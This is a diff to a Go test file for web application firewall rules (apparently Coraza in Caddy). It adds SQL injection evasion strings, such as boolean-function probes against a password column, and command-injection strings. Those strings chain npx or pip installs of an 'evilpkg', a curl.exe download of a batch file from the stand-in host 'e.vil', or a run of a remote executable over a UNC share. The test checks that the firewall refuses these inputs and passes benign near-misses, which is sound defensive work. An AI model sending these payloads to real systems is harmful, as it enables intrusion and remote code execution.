@@ -87,12 +87,12 @@ func TestSQLFunctionRule(t *testing.T) {
 		c := comments.ReplaceAllString(v, " ")
 		return quote.MatchString(c) && tail.MatchString(v) || number.MatchString(c)
 	}
-	for _, v := range append(append([]string{}, sqlFunctionAttacks...), sqlFunctionAttacksCRS...) {
+	for _, v := range append(append(append([]string{}, sqlFunctionAttacks...), sqlFunctionAttacksCRS...), sqlFunctionAttacks18...) {
 		if !refused(v) {
 			t.Errorf("%q: not refused", v)
 		}
 	}
-	for _, v := range append(append(append([]string{}, sqlFunctionBenign...), sqlFunctionBenignCRS...), append(sqlFunctionCode, sqlFunctionCodeCRS...)...) {
+	for _, v := range concat(sqlFunctionBenign, sqlFunctionBenignCRS, sqlFunctionCode, sqlFunctionCodeCRS, sqlFunctionBenign18, sqlFunctionBenign18CRS) {
 		if refused(v) {
 			t.Errorf("the benign %q: refused", v)
 		}
@@ -157,12 +157,12 @@ var shellExtraCode = []string{
 // TestShellExtraRule: rule 210159's expression, as Coraza compiles it.
 func TestShellExtraRule(t *testing.T) {
 	rx := regexp.MustCompile("(?sm)" + strings.ReplaceAll(shellExtraRule, `\"`, `"`))
-	for _, v := range append(append([]string{}, shellExtraAttacks...), shellExtraAttacksCRS...) {
+	for _, v := range append(append(append([]string{}, shellExtraAttacks...), shellExtraAttacksCRS...), shellExtraAttacks18...) {
 		if !rx.MatchString(v) {
 			t.Errorf("%q: not refused", v)
 		}
 	}
-	for _, v := range append(append(append([]string{}, shellExtraBenign...), shellExtraBenignCRS...), append(shellExtraCode, shellExtraCodeCRS...)...) {
+	for _, v := range concat(shellExtraBenign, shellExtraBenignCRS, shellExtraCode, shellExtraCodeCRS, shellExtraBenign18, shellExtraBenign18CRS) {
 		if rx.MatchString(v) {
 			t.Errorf("the benign %q: refused", v)
 		}
@@ -204,4 +204,92 @@ func TestSQLFunctionsBeyondTheCRS(t *testing.T) {
 		benign = append(benign, probe{name: strconv.Quote(v) + " in JSON", method: "POST", path: "/notes", contentType: "application/json", body: jsonString("v", v)})
 	}
 	runBeyondTheCRS(t, catches, misses, benign)
+}
+
+// sqlFunctionAttacks18 are a fresh-eyes attack's (attack 18) evasions of
+// rules 210156 and 210162: the application's closing quote absorbed by a
+// literal's prefix (X'...', b'...', N'...', _utf8mb4'...'), a number in parentheses
+// or an arithmetic expression, and a sign or ~ before the call.
+var sqlFunctionAttacks18 = []string{
+	"x' OR json_valid('1') OR X'", "x' OR json_valid('1') OR b'", "x' OR json_valid('1') OR N'", "x' OR json_valid('1') OR _utf8mb4'",
+	"x' OR regexp_like('a','a') OR x'", "x' OR ISJSON('1')=1 OR 1=N'", "x' OR ISJSON('1')=1 OR N'a'=N'a", "x' OR ISJSON(N'1')=1 OR 0=N'",
+	"admin' AND unlikely(password LIKE 's%') OR X'", "admin' AND json_valid(password)=0 OR X'",
+	"(1) OR json_valid('1')", "1-0 OR json_valid('1')", "1 OR-json_valid('1')", "1 OR~json_valid('1')", "1 AND-unlikely(password LIKE 's%')",
+}
+
+// sqlFunctionBenign18 are near-misses of attack 18's shapes: a literal's
+// prefix on a closed string, a number in parentheses before prose.
+var sqlFunctionBenign18 = []string{
+	"WHERE flags = X'0F' AND json_valid(doc)",
+	"Book 'Dune' or N'Djamena travel",
+	"Chapter (2) or the appendix",
+	"1-2 or 3 days",
+}
+
+// sqlFunctionBenign18CRS are of sqlFunctionBenign18's kind, refused by
+// the CRS alone too: on the expressions only.
+var sqlFunctionBenign18CRS = []string{
+	"SELECT * FROM t WHERE name = N'Bob' AND ISJSON(data) = 1",
+	"(1) and concat(the two lists) then sort them",
+	"1-2 or substr(the name) works too",
+}
+
+// shellExtraAttacks18 are attack 18's evasions of rule 210159: one-word
+// commands chained before the runner, variables' assignments, a path,
+// quotes or backslashes around the runner's name, "$0", and cmd.exe's
+// start, call, @, ^ and quotes.
+var shellExtraAttacks18 = []string{
+	"127.0.0.1;FOO=1 npx -y evilpkg", "127.0.0.1;x=1 pip install evil", "127.0.0.1\nFOO=1 npx -y evilpkg", "127.0.0.1;/usr/bin/npx -y evilpkg",
+	"127.0.0.1;\\npx -y evilpkg", "127.0.0.1;\"npx\" -y evilpkg", "127.0.0.1;'npx' -y evilpkg", "127.0.0.1;n''px -y evilpkg",
+	"127.0.0.1;true;npx -y evilpkg", "127.0.0.1;true&&npx -y evilpkg", "127.0.0.1|true;npx -y evilpkg", "127.0.0.1;\"$0\" -c id",
+	"127.0.0.1 & start curl.exe -o x.bat e.vil/x.bat", "127.0.0.1 & ^curl.exe -o x.bat e.vil/x.bat", "127.0.0.1 & cu^rl.exe -o x.bat e.vil/x.bat",
+	"127.0.0.1 & \"curl.exe\" -o x.bat e.vil/x.bat", "127.0.0.1 & call \\\\e.vil\\share\\x.exe", "127.0.0.1 & \"\\\\e.vil\\share\\x.exe\"",
+	"127.0.0.1 & @\\\\e.vil\\share\\x.exe",
+}
+
+// shellExtraBenign18 are near-misses of attack 18's shapes: a README's
+// underlined heading before an install line, a chain whose first command
+// has words, prose with ; and &.
+var shellExtraBenign18 = []string{
+	"Installation\n============\n\npip install foo",
+	"Tom & Jerry; npx is faster",
+	"Salt & pepper; \"npx\" is a tool",
+	"x & start the car.exe later",
+	"cd app && npm ci && npm test",
+}
+
+// shellExtraBenign18CRS are of shellExtraBenign18's kind, refused by the
+// CRS alone too: on the expression only.
+var shellExtraBenign18CRS = []string{"python3 -m venv .venv && pip install -r requirements.txt"}
+
+// concat is lists joined in a new slice.
+func concat(lists ...[]string) []string {
+	var all []string
+	for _, l := range lists {
+		all = append(all, l...)
+	}
+	return all
+}
+
+// TestAttack18BeyondTheCRS: attack 18's evasions of rules 210156, 210162
+// and 210159 through a real Caddy, in the query, JSON and a form, each
+// passed by the CRS alone and refused with the additions; the near-misses
+// pass.
+func TestAttack18BeyondTheCRS(t *testing.T) {
+	tableOnly(t)
+	q := url.QueryEscape
+	var misses, benign []probe
+	for _, v := range append(append([]string{}, sqlFunctionAttacks18...), shellExtraAttacks18...) {
+		misses = append(misses,
+			probe{name: strconv.Quote(v) + " in the query", method: "GET", path: "/login?user=" + q(v)},
+			probe{name: strconv.Quote(v) + " in JSON", method: "POST", path: "/login", contentType: "application/json", body: jsonString("user", v)},
+			probe{name: strconv.Quote(v) + " in a form", method: "POST", path: "/login", contentType: "application/x-www-form-urlencoded", body: "user=" + q(v) + "&pass=x"},
+		)
+	}
+	for _, v := range append(append([]string{}, sqlFunctionBenign18...), shellExtraBenign18...) {
+		benign = append(benign,
+			probe{name: strconv.Quote(v) + " in the query", method: "GET", path: "/search?q=" + q(v)},
+			probe{name: strconv.Quote(v) + " in JSON", method: "POST", path: "/notes", contentType: "application/json", body: jsonString("v", v)})
+	}
+	runBeyondTheCRS(t, nil, misses, benign)
 }
